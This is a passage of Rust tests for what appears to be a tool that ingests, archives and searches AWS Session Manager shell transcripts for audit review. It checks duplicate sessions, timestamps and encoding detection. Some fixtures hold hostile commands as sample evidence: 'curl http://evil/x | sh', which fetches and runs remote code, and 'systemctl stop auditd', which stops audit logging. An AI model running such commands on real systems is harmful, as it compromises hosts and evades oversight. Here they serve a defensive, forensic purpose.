    let said = world.run("sync logs").0;
    assert!(said.contains("1,500 new sessions") && said.contains("3,000 commands"), "{said}");
}

#[test]
fn megabytes_of_line_ends_are_nothing_to_an_events_file() {
    let world = World::new();
    let blank = "\n".repeat(16 << 20);
    world.file(
        "logs/events.jsonl",
        format!("{}\n{blank}{}", say(ANN, 0, "id"), say(ANN, 1, "ls")).as_bytes(),
    );
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 1 new session, 0 changed; 16.8 MB read, 2 commands found
        ! head: 1:…
    "#]]);
}

/// A transcript of this id that ends at noon of 2026-11-20, stored so many minutes later.
fn copy_of(world: &World, below: &str, id: &str, lines: &[&str], minutes: u64) {
    world.transcript(&format!("{below}/{id}.log"), lines);
    world.touch(&format!("{below}/{id}.log"), 1_795_176_000 + minutes * 60);
}

#[test]
fn a_second_object_of_an_id_that_holds_something_else_stands_beside_the_first() {
    let world = World::new();
    let id = "alice-0123456789abcdef1";
    copy_of(
        &world,
        "one",
        id,
        &["sh-4.2$ curl http://evil/x | sh", "sh-4.2$ systemctl stop auditd", "sh-4.2$ exit"],
        0,
    );
    copy_of(&world, "two", id, &["sh-4.2$ ls", "sh-4.2$ exit"], 60);
    copy_of(&world, "three", id, &["sh-4.2$ ls", "sh-4.2$ exit"], 120);
    let check = |world: &World| {
        assert!(world.run("search auditd").0.contains("systemctl stop auditd"));
        assert!(world.run("search --output auditd").0.contains("systemctl stop auditd"));
        assert!(world.run("search ls").0.contains("    1  ?          ls"));
        world.run("sessions").is(expect![[r#"
            WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
            ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1#1 (account unknown)  diverges
            ≤ 2026-11-20 10:00:00Z  alice  -              2  alice-0123456789abcdef1#2 (account unknown)  diverges
        "#]]);
        world.run("show alice-0123456789abcdef1#1 --commands").is(expect![[r#"
            ≤ 2026-11-20 10:00:00Z  alice (by its session id) on an unknown target  alice-0123456789abcdef1#1 (account unknown)
                1  ?          curl http://evil/x | sh
                2  ?          systemctl stop auditd [78 % sure]
                3  ?          exit
            ! note: copies of the session differ; each is kept and searched: alice-0123456789abcdef1#1 from one/alice-0123456789abcdef1.log, alice-0123456789abcdef1#2 from two/alice-0123456789abcdef1.log
        "#]]);
        let said = world.run("report --format md -o -").0;
        assert!(
            said.contains("one/alice") && said.contains("two/alice") && said.contains("diverges"),
            "{said}"
        );
    };
    // In whatever order they come, and all at once.
    for order in ["one;two;three", "one two three"] {
        let _ = std::fs::remove_dir_all(world.path("archive"));
        for sources in order.split(';') {
            world.run(&format!("sync {sources}"));
        }
        check(&world);
        world.run("archive rebuild");
        check(&world);
        assert!(!world.run("archive verify").0.contains("[exit"));
    }
}

#[test]
fn one_of_many_copies_is_opened_by_its_number_and_an_id_may_hold_a_number_sign() {
    let world = World::new();
    for id in ["alice-0123456789abcdef1", "al#ice-0123456789abcdef2"] {
        for nth in 1..=11 {
            let line = format!("sh-4.2$ echo {nth}");
            copy_of(&world, &format!("logs/{nth:02}"), id, &[&line, "sh-4.2$ exit"], nth);
        }
        copy_of(&world, "logs/one", "b#b-0123456789abcdef3", &["sh-4.2$ id", "sh-4.2$ exit"], 0);
        world.run("sync logs");
        for nth in [1, 2, 10, 11] {
            for line in ["search echo --session", "show --commands"] {
                let said = world.run(&format!("{line} '{id}#{nth}'")).0;
                let shown: Vec<&str> = said.lines().filter(|it| it.contains("echo ")).collect();
                assert!(
                    shown.len() == 1 && shown[0].ends_with(&format!("echo {nth}")),
                    "{line} {id}#{nth}: {said}"
                );
            }
        }
        let said = world.run("show 'b#b-0123456789abcdef3' --commands").0;
        assert!(said.contains("  id\n") && said.contains("  b#~b-0123456789abcdef3\n"), "{said}");
        assert!(world.run("search id --session 'b#b'").0.contains("  id\n"));
    }
}

/// `script` of Session Manager writes its header at the end; whoever records by hand has it at the start.
#[test]
fn a_session_ends_when_the_later_of_header_and_footer_says() {
    let world = World::new();
    let text = "Script started on 2026-11-03 09:00:00+00:00\r\nsh-4.2$ id\r\r\nsh-4.2$ exit\r\r\nexit\r\n\r\nScript done on 2026-11-03 09:15:00+00:00\r\n";
    world.file("logs/alice-0123456789abcdef0.log", text.as_bytes());
    world.run("sync logs");
    world.run("sessions --from 2026-11-03T09:05:00Z --to 2026-11-03T09:20:00Z").is(expect![[r#"
            WHEN                    OWNER  TARGET  COMMANDS  SESSION                  FLAWS
            ≤ 2026-11-03 09:15:00Z  alice  -              2  alice-0123456789abcdef0
            ! window: 2026-11-03 09:05:00Z to 2026-11-03 09:20:00Z
        "#]]);
}

#[test]
fn a_copy_that_goes_on_is_the_session_and_one_that_was_cut_is_a_copy() {
    let world = World::new();
    let id = "alice-0123456789abcdef1";
    let text = format!("{}sh-4.2$ id\r\r\n", crate::world::HEADER);
    world.file(&format!("one/{id}.log"), text.as_bytes());
    world.run("sync one");
    world.file(
        &format!("one/{id}.log"),
        format!("{text}sh-4.2$ systemctl stop auditd\r\r\nsh-4.2$ exit\r\r\n").as_bytes(),
    );
    world.run("sync one");
    world.file(&format!("two/{id} (1).log"), text.as_bytes());
    world.run("sync two");
    world.run("sessions").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                  FLAWS
        ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1  no-footer, replaced
    "#]]);
    // Written over with something else: what was there before is still searched.
    world.file(
        &format!("one/{id}.log"),
        format!("{}sh-4.2$ uptime\r\r\n", crate::world::HEADER).as_bytes(),
    );
    world.run("sync one");
    assert!(world.run("search auditd").0.contains("systemctl stop auditd"));
    world.run("sessions").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
        ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1#1 (account unknown)  diverges, no-footer, replaced
        ≤ 2026-11-20 10:00:00Z  alice  -              1  alice-0123456789abcdef1#2 (account unknown)  diverges, no-footer, replaced
    "#]]);
}

#[test]
fn what_begins_like_json_and_is_none_is_a_transcript() {
    let world = World::new();
    for (nth, text) in [
        "[root@ip-10-0-3-7 ~]# systemctl stop auditd\r\n",
        "[tom@web ~]$ echo '\"message\"'\r\n",
        "{ uptime; }\r\nsh-4.2$ id\r\n",
    ]
    .iter()
    .enumerate()
    {
        world.file(&format!("l/alice-0123456789abcdef{nth}.log"), text.as_bytes());
    }
    let said = world.run("sync l").0;
    assert!(said.contains("3 new sessions") && !said.contains("[exit"), "{said}");
    assert!(world.run("search --output auditd").0.contains("systemctl stop auditd"));
}

#[test]
fn evidence_in_a_form_that_is_not_read_is_named_and_never_passed_over() {
    let event = r#"{"eventVersion": "1.0", "sessionId": "rie-0123456789abcdef0", "sessionData": ["sh-4.2$ id"]}"#;
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain("sh-4.2$ id\r\n".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let csv = format!("timestamp,message\n1795143600000,\"{}\"\n", event.replace('"', "\"\""));
    let insights = format!(
        "@timestamp,@message,@logStream\n2026-11-20 03:00:00.000,\"{}\",rie\n",
        event.replace('"', "\"\"")
    );
    let world = World::new();
    for (name, bytes, what) in [
        ("rie-0123456789abcdef0.log", utf16, "UTF-16"),
        (
            "logs.txt",
            format!("2026-11-20T03:00:00.000000+00:00 rie-0123456789abcdef0 {event}\n")
                .into_bytes(),
            "aws logs tail",
        ),
        (
            "rie-0123456789abcdef0.txt",
            format!("2026-11-20T03:00:00 {event}\n").into_bytes(),
            "aws logs tail",
        ),
        (
            "tail.txt",
            format!("\x1b[32m2026-11-20T03:00:00.123000+00:00\x1b[0m \x1b[36mrie\x1b[0m {event}\n")
                .into_bytes(),
            "aws logs tail",
        ),
        (
            "text.txt",
            format!("EVENTS\t1795136400100\t{event}\t1795136400000\n").into_bytes(),
            "text output of `aws logs`",
        ),
        (
            "rie-0123456789abcdef0.log",
            "sh-4.2$ id\r\nuid=0\r\n".encode_utf16().flat_map(u16::to_le_bytes).collect(),
            "UTF-16 without a byte order mark",
        ),
        (
            "sato-0123456789abcdef0.log",
            b"sh-4.2$ echo \x82\xb5\x82\xdc\x82\xb5\x82\xbd\r\n".to_vec(),
            "CP932 (Shift_JIS)",
        ),
        ("rie-0123456789abcdef0.log", b"PK\x03\x04xxxx".to_vec(), "a ZIP archive"),
        ("log-events-viewer-result.csv", csv.into_bytes(), "CloudWatch console"),
        ("results.csv", insights.into_bytes(), "CloudWatch console"),
        (
            "results.json",
            format!("[{{\"@timestamp\": \"2026-11-20 03:00:00.000\", \"@message\": {event}}}]")
                .into_bytes(),
            "Logs Insights",
        ),
    ] {
        let _ = std::fs::remove_dir_all(world.path("l"));
        world.file(&format!("l/{name}"), &bytes);
        let said = world.run("sync l").0;
        assert!(said.contains(what) && said.contains("[exit 3]"), "{name}: {said}");
    }
    // What is named as a session is read, whatever it begins with.
    for (nth, text) in
        ["\u{feff}sh-4.2$ id\r\nuid=0\r\n", "{}\r\nsh-4.2$ id\r\nuid=0\r\n"].iter().enumerate()
    {
        let name = format!("l{nth}/rie-0123456789abcdef{nth}.log");
        world.file(&name, text.as_bytes());
        let said = world.run(&format!("sync l{nth}")).0;
        assert!(said.contains("1 command found") && !said.contains("[exit"), "{name}: {said}");
    }
    // A list of something else is none of ours.
    let _ = std::fs::remove_dir_all(world.path("l"));
    world.file("l/data.csv", b"a,b\n1,2\n");
    assert!(!world.run("sync l").0.contains("[exit"));
}
